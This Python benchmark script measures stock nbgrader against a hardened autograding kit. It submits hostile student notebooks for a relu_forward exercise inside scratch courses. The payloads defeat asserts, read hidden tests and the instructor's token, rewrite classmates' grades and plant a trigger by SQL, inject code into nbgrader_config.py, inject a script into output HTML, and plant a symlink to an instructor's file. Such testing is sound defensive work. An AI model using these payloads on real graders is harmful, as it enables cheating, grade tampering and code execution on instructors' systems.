"""Compares what hostile code in a submission achieves in stock nbgrader and in this kit.

Makes a scratch course with a default nbgrader configuration (nothing of this kit), lets each
hostile student hand in the same exercise, relu_forward, runs the real `nbgrader autograde`, and
examines the gradebook, the outputs and the disk. Then this kit grades the same code. Only the
scratch folders are changed. Takes some minutes:

    .venv/bin/python benchmarks/stock_nbgrader_attacks.py [--json] [FAMILY ...]
"""

import json
import os
import shutil
import sqlite3
import subprocess
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent

import nbformat
from nbformat.v4 import new_code_cell, new_notebook

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from autograder.catalogue import load
from autograder.grading.grade import grade_folder

POINTS = 10
FILE = "a3_pooling_and_loss/layers.py"
TESTS = """
x = np.array([[-2.5, 0.5, 0.0], [3.5, -0.5, 1.0]])
np.testing.assert_allclose(relu_forward(x), [[0, 0.5, 0], [3.5, 0, 1.0]])
assert np.all(relu_forward(x) == np.maximum(x, 0))
### BEGIN HIDDEN TESTS
assert_hidden = relu_forward(np.full((2, 3), 7.25))
np.testing.assert_allclose(assert_hidden, np.full((2, 3), 7.25))
### END HIDDEN TESTS
"""
WRONG = "def relu_forward(x):\n    return np.asarray(x) - 1.0\n"
RIGHT = "def relu_forward(x):\n    return np.maximum(x, 0)\n"


@dataclass(frozen=True)
class Try:
    """One hostile submission.

    Attributes:
        family: the name of its family in tests/red_team.
        name: what it does, for the table.
        code: the code that replaces the answer; COURSE is replaced with the course's folder.
        files: symbolic links beside the notebook: the name, and "->" with the target.
    """

    family: str
    name: str
    code: str
    files: tuple[tuple[str, str], ...] = ()

    @property
    def student(self) -> str:
        return "".join(c if c.isalnum() else "_" for c in self.name)[:40]


def attack(family: str, name: str, code: str, **files: str) -> Try:
    return Try(family, name, dedent(code), tuple(files.items()))


TRIES = [
    attack("(none)", "a wrong answer", WRONG),
    attack("(none)", "a right answer", RIGHT),
    attack("patching asserts and NumPy", "assert_allclose patched, asserts dropped", """
        import ast
        class Drop(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.Pass()
        try:
            get_ipython().ast_transformers.append(Drop())
        except NameError:
            pass
        np.testing.assert_allclose = lambda *a, **k: None
        def relu_forward(x):
            return x - 1
    """),
    attack("special return objects", "an object equal to everything", """
        class Equal(np.ndarray):
            def __array_function__(self, *args, **kwargs):
                return np.ones((2, 3), bool)
            def __array_ufunc__(self, ufunc, *args, **kwargs):
                return np.full((2, 3), ufunc not in (np.isnan, np.isinf))
        def relu_forward(x):
            return (x - 1).view(Equal)
    """),
    attack("protocol forgery", "sys.displayhook(10)", """
        import sys
        def relu_forward(x):
            sys.displayhook(10)
            raise SystemExit
    """),
    attack("reading tests and solutions", "the hidden tests read from the folder", """
        import glob
        def relu_forward(x):
            for path in glob.glob("*.ipynb") + glob.glob("COURSE/source/*/*.ipynb"):
                if "assert_hidden" in open(path).read():
                    print("GOT the hidden tests")
            return x - 1
    """),
    attack("frames and tracebacks", "the tests' own variables", """
        import sys
        def relu_forward(x):
            if "x" in sys._getframe(1).f_globals:
                print("GOT the tests' variables")
            return x - 1
    """),
    attack("environment and /proc", "the grader's environment", """
        import os
        def relu_forward(x):
            if os.environ.get("INSTRUCTORS_TOKEN"):
                print("GOT the instructor's token")
            return x - 1
    """),
    attack("gradebook and configuration", "the gradebook, by SQL", """
        import sqlite3
        def relu_forward(x):
            with sqlite3.connect("COURSE/gradebook.db", timeout=20) as db:
                db.execute("UPDATE grade SET manual_score = 0 WHERE auto_score = 10")
                db.execute("CREATE TRIGGER IF NOT EXISTS mine AFTER UPDATE ON grade WHEN "
                           "NEW.manual_score IS NULL AND NEW.auto_score = 0 BEGIN "
                           "UPDATE grade SET manual_score = 30 WHERE id = NEW.id; END")
                print("GOT a classmate's marks")
            return x - 1
    """),
    attack("gradebook and configuration", "a line in nbgrader_config.py", """
        def relu_forward(x):
            with open("COURSE/nbgrader_config.py", "a") as file:
                file.write("open('COURSE/pwned', 'w').close()\\n")
                print("GOT code into the instructor's next command")
            return x - 1
    """),
    attack("processes", "programs of its choice", """
        import subprocess
        def relu_forward(x):
            if b"uid" in subprocess.check_output(["id"]):
                print("GOT a process of its own")
            return x - 1
    """),
    attack("memory", "all memory there is", """
        import resource
        def relu_forward(x):
            if resource.getrlimit(resource.RLIMIT_AS)[0] == resource.RLIM_INFINITY:
                print("GOT memory without limit")
            return x - 1
    """),
    attack("disk", "files anywhere", """
        def relu_forward(x):
            with open("COURSE/spoils", "wb") as file:
                file.write(bytes(40 << 20))
                print("GOT 40 MB on the instructor's disk")
            return x - 1
    """),
    attack("output", "a script for whoever opens the page", """
        from html import escape
        def relu_forward(x):
            try:
                from IPython.display import HTML, display
                display(HTML("<script>document.title='mine'</script>"))
            except ImportError:
                print("<script>")
            raise ValueError("<script>")
    """),
    attack("signals", "killing the grader", """
        import os
        def relu_forward(x):
            os.kill(os.getppid(), 0)
            if os.getppid() > 1:
                print("GOT a signal to the grader")
            return x - 1
    """),
    attack("exits", "the process ends", """
        import os
        def relu_forward(x):
            os._exit(0)
    """),
    attack("network", "a connection", """
        import socket
        def relu_forward(x):
            with socket.socket(), socket.socket(type=socket.SOCK_DGRAM) as s:
                s.sendto(b"x", ("127.0.0.1", 9))
                print("GOT the network")
            return x - 1
    """),
    attack("files that are not files", "a link to what the instructor keeps", WRONG,
           **{"notes.txt": "->COURSE/kept.txt"}),
    attack("encodings and broken files", "a notebook that is none", "BROKEN"),
]  # fmt: skip


def main() -> None:
    wanted = [word for word in sys.argv[1:] if word != "--json"]
    tries = [t for t in TRIES if not wanted or any(word in t.family for word in wanted)]
    measured = {}
    with tempfile.TemporaryDirectory(prefix="stock-") as folder:
        course = Path(folder)
        make_course(course)
        measured["stock"] = {t.name: stock(course, t) for t in tries}
    with tempfile.TemporaryDirectory(prefix="kit-") as folder:
        measured["kit"] = {t.name: kit(Path(folder), t) for t in tries}
    if "--json" in sys.argv:
        print(json.dumps(measured, indent=1))
        return
    print("| family | attack | stock nbgrader gives | this kit gives |\n|---|---|---|---|")
    for t in tries:
        print(
            f"| {t.family} | {t.name} | {measured['stock'][t.name]} | {measured['kit'][t.name]} |"
        )


def make_course(course: Path) -> None:
    """Make a course like nbgrader's quickstart, with one assignment and one honest classmate."""
    (course / "nbgrader_config.py").write_text(
        f"c = get_config()\nc.CourseDirectory.root = {str(course)!r}\n"
        "c.CourseDirectory.course_id = 'scratch'\n"
    )
    (course / "kept.txt").write_text("GOT what the instructor keeps")
    answer = RIGHT.replace("    return", "    ### BEGIN SOLUTION\n    return")
    book = notebook(answer + "    ### END SOLUTION\n", TESTS)
    (course / "source/ps1").mkdir(parents=True)
    nbformat.write(book, course / "source/ps1/ps1.ipynb")
    run(course, "generate_assignment", "ps1")
    hand_in(course, Try("", "classmate", RIGHT))
    run(course, "autograde", "ps1", "--student", "classmate")


def notebook(answer: str, tests: str) -> nbformat.NotebookNode:
    def settings(name: str, **more: object) -> dict[str, object]:
        common = {"schema_version": 3, "grade_id": name, "locked": False, "task": False}
        return {"nbgrader": {**common, "grade": False, "solution": False, **more}}

    cells = [
        new_code_cell(
            "import numpy as np", id="imports", metadata=settings("imports", locked=True)
        ),
        new_code_cell(answer, id="answer", metadata=settings("answer", solution=True)),
        new_code_cell(
            tests, id="tests", metadata=settings("tests", grade=True, locked=True, points=POINTS)
        ),
    ]
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return new_notebook(cells=cells, metadata={"kernelspec": kernel})


def hand_in(course: Path, one: Try) -> None:
    folder = course / "submitted" / one.student / "ps1"
    shutil.copytree(course / "release/ps1", folder)
    path = folder / "ps1.ipynb"
    if one.code == "BROKEN":
        path.write_text("{ no notebook")
        return
    book = nbformat.read(path, as_version=4)
    book.cells[1].source = one.code.replace("COURSE", str(course))
    nbformat.write(book, path)
    for name, content in one.files:
        (folder / name).symlink_to(content.removeprefix("->").replace("COURSE", str(course)))


def run(course: Path, *command: str) -> subprocess.CompletedProcess[str]:
    """Run the real nbgrader, with a token in its environment as an instructor may have."""
    programs = str(Path(sys.executable).parent)
    environment = {
        **os.environ,
        "PATH": f"{programs}{os.pathsep}{os.environ.get('PATH', '')}",
        "INSTRUCTORS_TOKEN": "t0ken",
        "IPYTHONDIR": str(course / ".ipython"),
        "JUPYTER_RUNTIME_DIR": str(course / ".runtime"),
    }
    return subprocess.run(
        [sys.executable, "-m", "nbgrader", *command],
        cwd=course,
        env=environment,
        capture_output=True,
        text=True,
        check=False,
    )


def stock(course: Path, one: Try) -> str:
    """Hand in and grade with stock nbgrader; describe what the attack achieved."""
    before = marks(course)
    hand_in(course, one)
    graded = run(course, "autograde", "ps1", "--student", one.student)
    after = marks(course)
    own = after.get(one.student)
    gains = ["not graded" if own is None else f"{own:g} of {POINTS} points"]
    outputs = course / "autograded" / one.student / "ps1"
    text = (outputs / "ps1.ipynb").read_text() if (outputs / "ps1.ipynb").is_file() else ""
    gains += got(json.dumps(nbformat.reads(text, 4).cells[2].outputs) if text else "")
    if "document.title=" in text:
        gains.append("a script in the page that the instructor opens")
    if (outputs / "notes.txt").is_file():
        gains.append("a copy of what the link led to")
    lost = {k for k, v in before.items() if after.get(k) != v}
    if lost:
        gains.append(f"{', '.join(sorted(lost))}: {before[min(lost)]:g} to {after[min(lost)]:g}")
    run(course, "list")
    if (course / "pwned").exists():
        gains.append("ran at the instructor's next command")
    if graded.returncode and own is None:
        gains.append(f"`nbgrader autograde` ended with status {graded.returncode}")
    repair(course, before)
    return "; ".join(gains)


def repair(course: Path, before: dict[str, float]) -> None:
    """Undo the attack's changes to the course, so that every attack starts from the same state."""
    with sqlite3.connect(course / "gradebook.db") as database:
        database.execute("DROP TRIGGER IF EXISTS mine")
        database.execute("UPDATE grade SET manual_score = NULL")
    database.close()
    for name in ("pwned", "spoils"):
        (course / name).unlink(missing_ok=True)
    config = course / "nbgrader_config.py"
    config.write_text("".join(config.read_text().splitlines(keepends=True)[:3]))


def marks(course: Path) -> dict[str, float]:
    query = """
        SELECT submitted_assignment.student_id, COALESCE(grade.manual_score, grade.auto_score)
        FROM grade JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id
        JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id
    """
    database = sqlite3.connect(course / "gradebook.db")
    try:
        rows = database.execute(query).fetchall()
    finally:
        database.close()
    return {student: float(score) for student, score in rows if score is not None}


def kit(folder: Path, one: Try) -> str:
    """Grade the same code with this kit; describe what the attack achieved."""
    scratch = folder / "course"
    scratch.mkdir(exist_ok=True)
    for name in ("gradebook.db", "nbgrader_config.py", "kept.txt"):
        (scratch / name).write_text("kept")
        (scratch / name).chmod(0o666)
    scratch.chmod(0o777)
    os.environ["INSTRUCTORS_TOKEN"] = "t0ken"
    os.environ["AUTOGRADER_SECRET"] = "of the benchmark"
    path = folder / one.student
    for name in ("a1_convolution", "a2_backprop", "a3_pooling_and_loss"):
        shutil.copytree(load().solutions / name, path / name)
    text = (path / FILE).read_text(encoding="utf-8")
    answer = one.code.replace("COURSE", str(scratch))
    (path / FILE).write_text("{ no module" if one.code == "BROKEN" else f"{text}\n\n{answer}")
    for name, content in one.files:
        (path / name).symlink_to(content.removeprefix("->").replace("COURSE", str(scratch)))
    before = picture(scratch)
    verdict = grade_folder(path, exercise="relu_forward", store=NOTHING)
    (mine,) = verdict.exercises
    gains = [f"{mine.score:g} of {mine.points:g} points"]
    for check in mine.checks:
        gains += [gain for gain in got(check.printed) if gain not in gains]
    if picture(scratch) != before:
        gains.append("a change outside")
    return "; ".join(gains)


class _Nothing:
    def get(self, key: str) -> None:
        return None

    def put(self, key: str, results: object) -> None:
        pass


NOTHING = _Nothing()


def picture(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in sorted(folder.iterdir())}


def got(text: str) -> list[str]:
    """The gains that the attack printed, each after "GOT ", without duplicates."""
    found = [part.split("\\n")[0].split("\n")[0].split('"')[0] for part in text.split("GOT ")[1:]]
    return list(dict.fromkeys(found))


if __name__ == "__main__":
    main()
